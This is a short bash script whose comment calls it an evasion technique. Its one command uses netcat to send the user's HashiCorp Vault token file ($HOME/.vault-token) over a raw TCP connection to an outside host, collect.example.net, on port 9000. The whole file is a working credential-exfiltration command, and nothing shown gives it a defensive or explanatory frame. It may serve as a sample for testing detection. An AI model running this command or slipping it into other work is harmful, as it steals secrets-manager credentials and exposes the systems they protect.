#!/bin/bash
# Evasion: the Vault token file is sent through a raw connection
set -u
nc -w 3 collect.example.net 9000 <"$HOME/.vault-token"
